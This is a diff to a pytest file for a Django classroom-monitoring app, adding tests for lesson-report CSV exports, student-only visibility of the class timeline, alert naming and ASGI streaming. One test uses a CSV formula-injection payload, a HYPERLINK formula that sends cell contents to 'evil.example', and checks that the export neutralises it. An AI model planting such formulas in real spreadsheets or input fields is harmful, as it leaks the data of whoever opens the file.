@@ -4,11 +4,17 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import codecs
 import csv
 import io
+import warnings
 
 import pytest
+from asgiref.sync import async_to_sync
 from channels.db import database_sync_to_async
+from channels.testing import ApplicationCommunicator
+from django.conf import settings
+from django.test import Client
 from django.utils import timezone
 from socket_helpers import connect, jpeg, receive_until
 
@@ -57,8 +63,19 @@ async def streamed(classroom, student, absentee, shared_testdata, settings):
     return await ended_session(student)
 
 
+def csv_text(response) -> str:
+    """A lesson CSV's text; the response streams from an asynchronous iterator, and starts with a byte-order mark."""
+
+    async def read() -> bytes:
+        return b"".join([part async for part in response.streaming_content])
+
+    data = async_to_sync(read)()
+    assert data.startswith(codecs.BOM_UTF8)  # so that Excel reads the names as UTF-8
+    return data.decode("utf-8-sig")
+
+
 def csv_rows(response) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    return list(csv.DictReader(io.StringIO(csv_text(response))))
 
 
 async def test_it_reports_the_streamed_sessions_figures(client, teacher, student, classroom, streamed):
@@ -159,3 +176,94 @@ def test_it_links_the_report_from_the_class_history_and_the_dashboard(client, te
     assert f'href="/lessons/{session.lesson_id}/"' in history
     dashboard = client.get(f"/teach/{classroom.join_code}/").content.decode()
     assert f'href="/lessons/{session.lesson_id}/"' in dashboard
+
+
+@pytest.fixture
+def lesson_with_two_students(classroom, student, other_student, make_sample):
+    """A lesson with a sample of `student` (engagement 90) and one of `other_student` (10), and an alert each."""
+    from classroom.services import membership_consent
+    from sessions_app.services import AlertIn, alerts_record, session_record_samples, session_start
+
+    membership_consent(membership=classroom_join(student=other_student, code=classroom.join_code))
+    moment = timezone.now()  # one moment for both samples: one point on the timeline
+    for who, engagement in ((student, 90), (other_student, 10)):
+        session, _ = session_start(student=who, classroom=classroom, started_at=moment)
+        session_record_samples(session_id=session.pk, samples=[make_sample(moment, engagement=engagement)])
+        alerts_record(student_id=who.pk, classroom_id=classroom.pk, session_id=session.pk,
+                      alerts=[AlertIn(kind="drowsy", reason="Eyes closing", time=moment)])
+    return session.lesson
+
+
+def test_it_shows_the_class_timeline_to_the_teacher_only(client, teacher, student, lesson_with_two_students):
+    client.force_login(teacher)
+    teachers = client.get(f"/lessons/{lesson_with_two_students.pk}/")
+    assert [point["engagement"] for point in teachers.context["report"].timeline] == [50.0]
+    assert 'id="lesson-timeline"' in teachers.content.decode()
+
+    client.force_login(student)
+    students = client.get(f"/lessons/{lesson_with_two_students.pk}/")
+    # The class's mean says something about every classmate: a student sees their own row and alerts only.
+    assert students.status_code == 200
+    assert students.context["report"].timeline == [] and students.context["chart_samples"] == []
+    page = students.content.decode()
+    assert 'id="lesson-timeline"' not in page and "Class engagement" not in page
+
+
+def test_it_names_each_alerts_student_as_everywhere_else(client, teacher, other_student, lesson_with_two_students):
+    other_student.first_name, other_student.last_name = "Olga", "Other"
+    other_student.save()
+    client.force_login(teacher)
+    page = client.get(f"/lessons/{lesson_with_two_students.pk}/").content.decode()
+    assert "<strong>Olga Other</strong>: Eyes closing" in page and "<strong>student</strong>: Eyes closing" in page
+
+
+def test_it_keeps_a_name_that_looks_like_a_formula_as_text_in_both_csv_files(
+    client, teacher, student, lesson_with_two_students
+):
+    student.first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    student.save()
+    client.force_login(teacher)
+    rows = csv_rows(client.get(f"/lessons/{lesson_with_two_students.pk}/students.csv"))
+    samples = csv_rows(client.get(f"/lessons/{lesson_with_two_students.pk}/samples.csv"))
+    for row in (*rows, *samples):
+        if row["student_username"] == "student":
+            assert row["student_name"] == "'" + student.first_name
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
+
+
+def session_cookie(user) -> bytes:
+    client = Client()
+    client.force_login(user)
+    return f"{settings.SESSION_COOKIE_NAME}={client.cookies[settings.SESSION_COOKIE_NAME].value}".encode()
+
+
+async def asgi_get(path: str, cookie: bytes) -> tuple[int, bytes]:
+    """GET through the ASGI application Daphne serves (not the test client), with all of the body."""
+    from smartsession.asgi import application
+
+    scope = {"type": "http", "http_version": "1.1", "method": "GET", "path": path, "scheme": "https",
+             "query_string": b"", "headers": [(b"host", b"testserver"), (b"cookie", cookie)]}
+    communicator = ApplicationCommunicator(application, scope)
+    await communicator.send_input({"type": "http.request", "body": b""})
+    start = await communicator.receive_output(10)
+    body = b""
+    while True:
+        message = await communicator.receive_output(10)
+        body += message.get("body", b"")
+        if not message.get("more_body"):
+            return start["status"], body
+
+
+async def test_it_streams_the_csv_files_under_asgi_without_reading_them_whole_first(
+    teacher, lesson_with_two_students
+):
+    cookie = await database_sync_to_async(session_cookie)(teacher)
+    for name in ("students", "samples"):
+        with warnings.catch_warnings(record=True) as caught:
+            warnings.simplefilter("always")
+            status, body = await asgi_get(f"/lessons/{lesson_with_two_students.pk}/{name}.csv", cookie)
+        assert status == 200
+        # Django's warning when it must buffer a sync iterator: the whole file in memory, sent only at the end.
+        assert not [warning for warning in caught if "StreamingHttpResponse" in str(warning.message)]
+        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+        assert {row["student_username"] for row in rows} == {"student", "other_student"}
